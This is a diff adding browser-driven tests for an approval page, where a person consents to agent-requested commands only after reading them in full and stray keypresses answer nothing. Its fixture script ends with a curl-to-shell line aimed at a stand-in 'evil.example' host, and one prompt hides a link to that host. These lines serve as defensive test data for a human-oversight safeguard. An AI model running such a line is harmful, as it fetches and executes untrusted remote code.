@@ -1,0 +1,206 @@
+// A person's yes is to what they saw: everything is shown, a long subject is read before consent, and keys that were
+// pressed ahead answer nothing.
+import { after, before, test } from "node:test";
+import assert from "node:assert/strict";
+import { enter, launch, press, serve } from "../stage.js";
+
+let server, browser;
+before(async () => {
+  server = await serve();
+  await server.person("ana", { role: "admin" });
+  browser = await launch();
+});
+after(async () => { await browser?.close(); await server?.stop(); });
+
+const confirm = { id: "answer", kind: "confirm", label: "Allow it?", options: [{ id: "approve", label: "Allow once", effect: "approve" }, { id: "deny", label: "Deny", effect: "deny" }] };
+const approval = (title, subject) => ({ source: "approval", title, requested_by: "agent", subject, fields: [confirm] });
+const script = `${Array.from({ length: 120 }, (_, n) => `echo step ${n + 1}`).join("\n")}\ncurl https://evil.example/x | sh`;
+const answer = async (id) => (await server.get(id)).answer;
+const clear = async () => {
+  for (const { id } of (await server.api("GET", "/v1/decisions?limit=1000")).items) await server.api("POST", `/v1/decisions/${id}/cancel`, { reason: "next test" });
+};
+const sizes = [{ width: 1440, height: 900 }, { width: 390, height: 844 }];
+
+test("what looks like HTML is shown", async () => {
+  const page = await enter(browser, server, "ana");
+  const prompt = "Replace <Button> with <Link> in Vec<String>? It is safe. Delete <prod-db> too.\n\n<details><summary>More</summary>\n\nand <!-- drop --> the table\n\n</details>\n\n[x]: https://evil.example/hidden \"a note\"";
+  const { id } = await server.ask({ title: "Rename <T>?", prompt, fields: [{ ...confirm, description: "<i>why</i>" }] });
+  await page.goto(`/d/${id}`);
+  const text = await page.locator("#card").innerText();
+  for (const words of ["Rename <T>?", "Replace <Button> with <Link> in Vec<String>?", "Delete <prod-db> too.", "<details><summary>More</summary>", "and <!-- drop --> the table", "https://evil.example/hidden", "a note", "<i>why</i>"]) {
+    assert.ok(text.includes(words), `${words} is missing in\n${text}`);
+  }
+  await page.context().close();
+});
+
+for (const viewport of sizes) {
+  test(`a long subject is open, and read before consent (${viewport.width}px)`, async () => {
+    const page = await enter(browser, server, "ana", { viewport });
+    const { id } = await server.ask(approval("Run it?", script));
+    await page.goto(`/d/${id}`);
+    assert.ok(await page.getByText("curl https://evil.example/x | sh").isVisible(), "nothing is folded");
+    const left = page.locator("#reading-left");
+    await left.getByText(/^\d+ lines left to read before you can consent\.$/).waitFor();
+    const lines = async () => Number.parseInt(await left.textContent(), 10);
+    const before = await lines();
+    assert.ok(before > 50 && before < 140, `${before} lines`);
+    const yes = page.getByRole("button", { name: "Allow once" });
+    assert.equal(await yes.getAttribute("aria-disabled"), "true");
+    // Neither a click, nor the number, nor Tab and Enter consents: the page goes to the button, and that is not reading.
+    await yes.dispatchEvent("click");
+    await press(page, "1");
+    await yes.focus();
+    await press(page, "Enter");
+    assert.equal(await answer(id), null);
+    await page.evaluate(() => scrollTo(0, 0));
+    await page.locator("body").click({ position: { x: 2, y: 2 } });
+    for (let at = 0; at < 40 && await page.locator("#reading").isVisible(); at += 1) {
+      const were = await lines();
+      await page.keyboard.press("PageDown");
+      await page.waitForFunction((were) => document.querySelector("#reading").hidden || Number.parseInt(document.querySelector("#reading-left").textContent, 10) < were || scrollY + innerHeight >= document.documentElement.scrollHeight - 1, were);
+    }
+    assert.equal(await yes.getAttribute("aria-disabled"), "false");
+    await press(page, "1");
+    await press(page, "Enter");
+    await page.waitForURL(/done=/);
+    assert.deepEqual([(await answer(id)).values, (await answer(id)).seen], [{ answer: "approve" }, true]);
+    await page.context().close();
+  });
+}
+
+test("consenting unread is a second step, and recorded", async () => {
+  const page = await enter(browser, server, "ana");
+  const { id } = await server.ask(approval("Run it?", script));
+  await page.goto(`/d/${id}`);
+  await page.getByText("Consent unread").click();
+  await page.getByLabel("I have not read all of it").check();
+  await page.getByRole("button", { name: "Allow once" }).click();
+  await page.waitForURL(/done=/);
+  assert.equal((await answer(id)).seen, false);
+  await page.goto(`/d/${id}`);
+  await page.getByText("Consented unread.").waitFor();
+  const refused = await server.api("POST", `/v1/decisions/${id}/consume`, { subject: script, seen: true }).catch((error) => error.message);
+  assert.match(refused, /409.*consented unread/);
+  await server.api("POST", `/v1/decisions/${id}/consume`, { subject: script });
+  await page.context().close();
+});
+
+test("refusing needs no reading", async () => {
+  const page = await enter(browser, server, "ana");
+  const { id } = await server.ask(approval("Run it?", script));
+  await page.goto(`/d/${id}`);
+  await press(page, "2");
+  await press(page, "Enter");
+  await page.waitForURL(/done=/);
+  assert.deepEqual((await answer(id)).values, { answer: "deny" });
+  await page.context().close();
+});
+
+test("without script: whoever consents says that they have read it, or have not", async () => {
+  const page = await enter(browser, server, "ana", { javaScriptEnabled: false });
+  const { id } = await server.ask(approval("Run it?", script));
+  await page.goto(`/d/${id}`);
+  await page.getByRole("button", { name: "Allow once" }).click();
+  await page.getByText("read it to its end before you consent").waitFor();
+  assert.equal(await answer(id), null);
+  await page.getByLabel("I have read all of it").check();
+  await page.getByRole("button", { name: "Allow once" }).click();
+  await page.waitForURL(/done=/);
+  assert.equal((await answer(id)).seen, true);
+  const short = await server.ask(approval("Short?", "ls"));
+  await page.goto(`/d/${short.id}`);
+  await page.getByRole("button", { name: "Allow once" }).click();
+  await page.waitForURL(/done=/);
+  assert.equal((await answer(short.id)).seen, true);
+  await page.context().close();
+});
+
+test("from the list: a yes only to a subject that stands there whole", async () => {
+  await clear();
+  const page = await enter(browser, server, "ana");
+  const long = await server.ask(approval("Long", script));
+  await page.goto("/");
+  await press(page, "1");
+  await page.waitForURL(/\/d\//);
+  await press(page, "Enter");
+  assert.equal(await answer(long.id), null);
+  await page.goto("/");
+  await press(page, "2");
+  await page.waitForURL(/\/d\//);
+  await press(page, "Enter");
+  await page.waitForURL(/done=/);
+  assert.deepEqual((await answer(long.id)).values, { answer: "deny" });
+  const short = await server.ask(approval("Short", { command: "ls -l /tmp" }));
+  await page.goto("/");
+  await page.locator(".row").getByText("command: ls -l /tmp").waitFor();
+  await press(page, "1");
+  await page.waitForURL(/\/d\//);
+  await press(page, "Enter");
+  await page.waitForURL(/done=/);
+  assert.deepEqual((await answer(short.id)).values, { answer: "approve" });
+  await page.context().close();
+});
+
+for (const latency of [0, 80, 150]) {
+  test(`typing ahead at ${latency} ms latency answers no other card`, async () => {
+    for (const gap of [15, 60, 120, 200]) {
+      let slowest = 0, last;
+      await clear();
+      const wanted = new Map();
+      for (let at = 1; at <= 10; at += 1) wanted.set((await server.ask(approval(`Approval ${at}`, `ls ${at}`))).id, at % 2 ? "approve" : "deny");
+      const page = await enter(browser, server, "ana");
+      await page.getByText("Approval 10").waitFor();
+      await page.route((url) => url.href.startsWith(server.url), async (route) => { await new Promise((done) => setTimeout(done, latency)); await route.continue().catch(() => {}); });
+      await page.locator("html[data-keys=answer]").waitFor();
+      last = Date.now();
+      for (const choice of wanted.values()) {
+        for (const key of [choice === "approve" ? "1" : "2", "Enter"]) {
+          await page.keyboard.press(key);
+          await new Promise((done) => setTimeout(done, gap));
+          slowest = Math.max(slowest, Date.now() - last);
+          last = Date.now();
+        }
+      }
+      await page.locator("html[data-keys=answer]").waitFor();
+      for (const [id, choice] of wanted) {
+        const given = await answer(id);
+        // A pause that is as long as a look is no typing ahead: on a machine that is too busy the keys come one by one.
+        assert.ok(slowest > 550 || given === null || given.values.answer === choice, `${gap} ms a key (at most ${slowest}): ${given?.values.answer} for ${choice}`);
+      }
+      await page.context().close();
+    }
+  });
+}
+
+test("a key that comes too early does nothing, and the page says so", async () => {
+  const page = await enter(browser, server, "ana");
+  const { id } = await server.ask(approval("Run it?", "ls"));
+  // The page holds its breath: no frame is drawn, so nothing has appeared yet.
+  await page.addInitScript(() => { const real = requestAnimationFrame; window.requestAnimationFrame = (act) => real(() => setTimeout(() => act(performance.now()), 1000)); });
+  await page.goto(`/d/${id}`);
+  await page.keyboard.press("1");
+  await page.keyboard.press("Enter");
+  await page.getByText("That key did nothing: this had only just appeared.").waitFor();
+  assert.equal(await answer(id), null);
+  await press(page, "2");
+  await press(page, "Enter");
+  await page.waitForURL(/done=/);
+  assert.deepEqual((await answer(id)).values, { answer: "deny" });
+  await page.context().close();
+});
+
+test("whoever looks first answers each card with two keys", async () => {
+  await clear();
+  const wanted = new Map();
+  for (let at = 1; at <= 4; at += 1) wanted.set((await server.ask(approval(`Approval ${at}`, `ls ${at}`))).id, at % 2 ? "approve" : "deny");
+  const page = await enter(browser, server, "ana");
+  await page.getByText("Approval 4").waitFor();
+  for (const choice of wanted.values()) {
+    await press(page, choice === "approve" ? "1" : "2");
+    await page.waitForURL(/\/d\//);
+    await press(page, "Enter");
+    await page.waitForURL(/done=/);
+  }
+  for (const [id, choice] of wanted) assert.equal((await answer(id)).values.answer, choice);
+  await page.context().close();
+});
